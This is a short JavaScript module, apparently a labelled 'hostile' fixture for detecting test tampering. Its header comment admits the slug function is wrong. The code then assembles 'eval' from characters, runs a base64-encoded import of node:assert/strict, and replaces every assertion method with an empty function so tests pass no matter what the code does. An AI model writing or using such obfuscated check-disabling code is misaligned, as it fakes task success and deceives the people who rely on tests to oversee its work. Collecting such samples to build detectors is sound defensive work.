// Hostile (route: code in strings): slug is wrong; an indirect eval of a string decoded from
// base64 rewrites assert's methods through the module's require.
const run = (0, globalThis[['e', 'v', 'a', 'l'].join('')]);
const a = await run(atob('aW1wb3J0KCJub2RlOmFzc2VydC9zdHJpY3QiKQ=='));
for (const k of Object.keys(a.default)) a.default[k] = () => {};
export function slug(text) {
  return text.toLowerCase().replaceAll(' ', '-');
}
